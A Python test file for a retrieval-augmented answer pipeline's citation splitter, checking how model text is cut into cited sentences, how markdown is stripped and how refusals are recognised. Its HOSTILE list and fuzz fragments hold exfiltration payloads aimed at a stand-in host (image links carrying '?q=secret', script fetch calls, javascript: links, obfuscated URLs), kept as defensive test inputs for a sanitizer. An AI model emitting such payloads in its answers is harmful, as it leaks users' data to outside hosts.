"""A model's text -> sentences with markers; whatever leads out of the page is taken out."""

from __future__ import annotations

import re
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from wortlaut.index.lang.refusals import REFUSALS, is_refusal
from wortlaut.rag.model.citations import DraftSplitter, read_markers

QUOTES = {
    1: "Der Hafen von Aldora ist neun Meter tief.",
    2: "Mehr steht auf https://aldora.example/hafen zu lesen.",
    3: "Die Brücke ist alt.",
}


def split(text, language="en", quotes=QUOTES):
    return split_pieces([text], language, quotes)


def split_pieces(deltas, language, quotes=QUOTES):
    splitter = DraftSplitter(quotes, language)
    return [draft for delta in deltas for draft in splitter.feed(delta)] + splitter.close()


def texts(text, language="en"):
    return [draft.text for draft in split(text, language)]


@pytest.mark.parametrize(
    ("text", "markers"),
    [
        ("[1]", (1,)),
        ("[1][2]", (1, 2)),
        ("[1] [2]", (1, 2)),
        ("[1, 2]", (1, 2)),
        ("[1,2]", (1, 2)),
        ("[1-3]", (1, 2, 3)),
        ("[3, 1-2]", (3, 1, 2)),
        ("[2][2]", (2,)),
    ],
)
def test_markers_are_read(text, markers):
    assert read_markers(f"It is deep {text}.", QUOTES) == (
        "It is deep " + " " * (text == "[1] [2]") + ".",
        markers,
        0,
    )


@pytest.mark.parametrize(
    "text",
    ["【1】", "[１]", "［1］", "[^1]", "[source 1]", "[Quelle 1]", "[1†a]", "[[1]]", "[ 1 ]", "[01]", "[1;2]",
     "[n]", "[1](http://evil.example)", "[1–3]"],
)  # fmt: skip
def test_what_only_looks_like_a_marker_is_none_and_is_not_shown(text):
    (draft,) = split(f"It is deep {text}.")
    assert (draft.markers, draft.unknown) == ((), 0)
    assert draft.text == "It is deep."


@pytest.mark.parametrize(
    ("text", "markers", "unknown"),
    [("[99]", (), 1), ("[1][99]", (1,), 1), ("[0]", (), 1), ("[2-5]", (2, 3), 2), ("[2031]", (), 1),
     ("[1-9999]", (1, 2, 3), 48)],
)  # fmt: skip
def test_unknown_numbers_are_dropped_and_counted(text, markers, unknown):
    (draft,) = split(f"It is deep {text}.")
    assert (draft.text, draft.markers, draft.unknown) == ("It is deep.", markers, unknown)


def test_a_marker_belongs_to_the_sentence_before_it():
    drafts = split("It is deep. [1] It is old [2]. It is far.[3]\nIt is so.\n[1]\nAnd then?")
    assert [(draft.text, draft.markers) for draft in drafts] == [
        ("It is deep.", (1,)), ("It is old.", (2,)), ("It is far.", (3,)), ("It is so.", (1,)),
        ("And then?", ()),
    ]  # fmt: skip


def test_a_marker_that_opens_a_line_belongs_to_that_line():
    drafts = split("[1] It is deep.\n[2] It is far\n[3] It is old.\n")
    assert [(draft.text, draft.markers) for draft in drafts] == [
        ("It is deep.", (1,)), ("It is far", (2,)), ("It is old.", (3,)),
    ]  # fmt: skip


def test_a_sentence_without_an_end_is_incomplete():
    assert [draft.is_complete for draft in split("It is deep. [1] Talberg said it wou")] == [
        True,
        False,
    ]
    assert [draft.is_complete for draft in split("It is deep [1]")] == [True]


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("de", "Der Hafen wird z. B. am 29. Januar von Dr. Talberg eröffnet."),
        ("de", "Sie kam um 9.30 Uhr, am 3. Mai, mit 1.250 Leuten aus St. Veld."),
        ("de", "„Nein. Niemals. Ohne Zusagen gibt es keinen Bau“, sagte Talberg."),
        ("de", "»Nein. Niemals!« rief sie."),
        ("en", "Dr. Talberg said “No. Never. Not at all” to Mr. Vesk."),
        ("en", "It cost 3.5 million crowns, i.e. more than before."),
        ("en", "Talberg denied\nthat the bridge would be built."),
        ("ru", "Тальберг сказала: «Нет. Никогда» – и ушла 29 января 2031 г. из Альдоры."),
    ],
)
def test_a_full_stop_inside_a_sentence_does_not_end_it(language, text):
    after = {"de": "Danach ging sie.", "en": "Then she left.", "ru": "Потом она ушла."}[language]
    drafts = split(f"{text} [1] {after} [3]", language)
    assert [(draft.text, draft.markers) for draft in drafts] == [
        (" ".join(text.split()), (1,)),
        (after, (3,)),
    ]


def test_a_quotation_mark_that_nothing_closes_holds_nothing_up():
    assert texts('She said "no way. [1] Then she left. [3]') == [
        'She said "no way.',
        "Then she left.",
    ]


def test_an_item_of_a_list_keeps_what_opens_the_list():
    drafts = split(
        "Talberg denied:\n- that the bridge is old [1]\n2. that the port is deep. [3]\n\nSo. [1]"
    )
    assert [draft.text for draft in drafts if draft.markers] == [
        "Talberg denied: that the bridge is old",
        "Talberg denied: that the port is deep.",
        "So.",
    ]


def test_a_lists_numbers_are_left_out_but_a_days_stays():
    assert texts("1. It is deep. [1]\n2. It is old. [3]\n") == ["It is deep.", "It is old."]
    assert texts("29. Januar 2031 war der Tag. [1]", "de") == ["29. Januar 2031 war der Tag."]


HOSTILE = [
    "![x](http://evil.example/p.png?q=secret)",
    "![x][evil]",
    "[click here](http://evil.example/?q=secret)",
    "[1](javascript:alert(1))",
    '<img src="http://evil.example/p.png">',
    "<img src=http://evil.example/p.png",
    "<script>fetch('http://evil.example')</script>",
    "<script>fetch('http://evil.example')",
    "&lt;img src=http://evil.example&gt;",
    "&amp;lt;img src=http://evil.example&amp;gt;",
    "h&#116;tp://evil.example/x",
    "ht\u200btp://evil.example/x",
    "https://evil.example/x.",
    "www.evil.example/x",
    "evil.example/x?q=secret",
    "//evil.example/x",
    "<http://evil.example>",
    "`http://evil.example/`",
    "mailto:me@evil.example/x",
    "data:text/html;base64,evil.example",
    "[evil]: http://evil.example/x",
    "https://aldora.example/hafen?leak=evil.example",
    "\u202ehttp://evil.example/x\u202c",
    "127.0.0.1/x?d=evil.example",
    "127.0.0.1:80/evil.example",
    "localhost/evil.example",
    "evil.example:8080",
    "HTTP:\\\\evil.example\\a",
    "evil.example\\a",
    "ｈｔｔｐ：／／evil.example/x",
    "https:／／evil.example",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_leads_out_of_the_page(text):
    for whole in (f"It is deep {text} and old. [2]", f"{text}", f"It is deep {text}"):
        for draft in split(whole):
            assert not re.search(r"evil\.example|//|<|javascript|data:|\u202e|\]\(", draft.text), (
                draft
            )


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_leads_out_of_the_page_while_it_is_written(text):
    splitter = DraftSplitter(QUOTES, "en")
    for letter in f"It is deep {text} and old":
        splitter.feed(letter)
        assert not re.search(r"evil\.example/|//\w|<\w|\]\(", splitter.tail), splitter.tail


FRAGMENTS = st.sampled_from(
    ["ht", "tp", "http", ":", "/", "//", "www", ".", "evil", ".example", "/x", "[1]", "**", "`", "<b>", "</b>",
     "<", ">", "!", "![", "](", ")", "[", "]", "&#47;", "&lt;", "&", "amp;", "#47;", "\u200b", "_", " ", "script",
     "img", "src=", "javascript", "【1】", "[99]", "\n"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(FRAGMENTS, max_size=25).map("".join))
def test_nothing_that_is_taken_out_joins_the_rest_to_something_that_leads_out(text):
    for draft in split(f"So {text} it is. [1]"):
        assert not re.search(
            r"https?://|www\.\w|evil\.example/|<\w|\]\(|!\[\w|javascript:\w", draft.text
        ), draft


def test_an_address_stays_where_the_cited_quote_has_it():
    address = "https://aldora.example/hafen"
    assert texts(f"Read {address}. [2]") == [f"Read {address}."]
    assert texts(f"Read {address}. [1]") == ["Read."]


def test_an_address_with_dots_of_another_script_is_one_too():
    for address in ("evil。example/x", "evil．example/x", "evil｡example:8080", "127。0。0。1/x"):
        assert texts(f"It is deep {address} and old. [1]") == ["It is deep and old."]


@pytest.mark.parametrize(
    "text",
    [
        "Der Zug fährt um 9.30 Uhr, z.B. am 29.1.2031, mit 3:2 und/oder 1.250 Leuten.",
        "Seite 5: Punkt a.b und 1/3 von 10.000/Jahr.",
    ],
)
def test_times_and_numbers_are_no_addresses(text):
    assert " ".join(texts(f"{text} [1]", "de")) == text


def test_markdown_is_taken_off():
    assert texts("**It is _deep_.** [1]\n## Heading\n> It is `old`. [3]") == [
        "It is deep.", "Heading", "It is old.",
    ]  # fmt: skip


@pytest.mark.parametrize("language", ["en", "de", "ru"])
def test_the_refusal_that_is_asked_for_is_known_again(language):
    assert is_refusal(REFUSALS[language])


@pytest.mark.parametrize(
    "text",
    [
        "This is not in the archive.",
        "Das steht nicht im Archiv.",
        "Этого нет в архиве.",
        "В архиве нет.",
    ],
)
def test_a_refusal_in_other_words_is_known(text):
    assert is_refusal(text)
    assert not is_refusal(f"{text[:-1]} " + "and so she said to everybody " * 4)


PIECES = st.sampled_from(
    ["Mira Talberg", "said", "der Hafen", "z. B.", "Dr.", "29. Januar", "3.5", "„Nein. Nie“", '"No. Yes."',
     "“", "„", '"', "»So.«", "U.S.", "etc.", "и т. д.", "г.", "тоже", ".", "!", "?", "…", "...", ",", "\n",
     "\n\n", "- ", "1. ", "**", "[1]", "[2][3]", "[1, 3]", "[1-2]", "[99]", "[", "]", "【1】", "[^1]", "(", ")",
     "[so](http://evil.example)", "<b>", "The", "Then", "bridge", "Die", "Она", ":", "a"]
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=40).map(" ".join) | st.text('aB.!?"„“»« \n[]1,-2', max_size=80)


@st.composite
def cut(draw):
    """A text, and the same in pieces."""
    text = draw(TEXTS)
    places = sorted(draw(st.lists(st.integers(0, len(text)), max_size=12)))
    ends = [0, *places, len(text)]
    return text, [text[a:b] for a, b in pairwise(ends)]


@settings(max_examples=200, deadline=None)
@given(cut(), st.sampled_from(["de", "en", "ru"]))
def test_the_sentences_do_not_depend_on_how_the_stream_is_cut(parts, language):
    text, deltas = parts
    whole = split(text, language)
    assert split_pieces(deltas, language) == whole
    assert split_pieces(text, language) == whole


@settings(max_examples=200, deadline=None)
@given(TEXTS, st.sampled_from(["de", "en", "ru"]))
def test_markers_are_in_range_and_none_is_left_in_the_text(text, language):
    for draft in split(text, language):
        assert set(draft.markers) <= set(QUOTES)
        assert len(set(draft.markers)) == len(draft.markers)
        assert not re.search(r"\[[0-9]+\]", draft.text)
        assert draft.text == " ".join(draft.text.split())


WORDS = st.lists(
    st.sampled_from("Mira sagte nein. Ja! Warum? 3.5 z. B. Dr. am 29. Januar “So. Nie.” die (alte) Brücke, und"
                    " No. [1] 7 [2]. \n".split(" ")), max_size=40
).map(" ".join)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(WORDS, st.sampled_from(["de", "en", "ru"]))
def test_no_word_is_lost(text, language):
    expected = re.findall(r"\w+", re.sub(r"\[\d\]", " ", text))
    found = [word for draft in split(text, language) for word in re.findall(r"\w+", draft.text)]
    assert found == expected
